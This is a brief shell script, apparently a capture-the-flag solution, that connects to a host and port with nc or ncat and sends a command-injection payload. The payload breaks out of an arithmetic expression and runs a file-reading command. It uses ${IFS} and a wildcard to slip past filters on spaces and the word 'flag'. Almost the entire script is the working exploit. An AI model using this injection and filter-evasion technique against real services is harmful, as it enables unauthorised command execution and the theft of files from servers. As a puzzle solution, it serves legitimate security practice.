#!/bin/sh
# solve.sh <host> <port>: the line is evaluated, so it can end the sum and go on: no space, no "flag" needed.
nc=$(command -v ncat || echo nc)
printf '1))$(cat${IFS}/f*.txt)$((1\n' | timeout 10 "$nc" "$1" "$2"
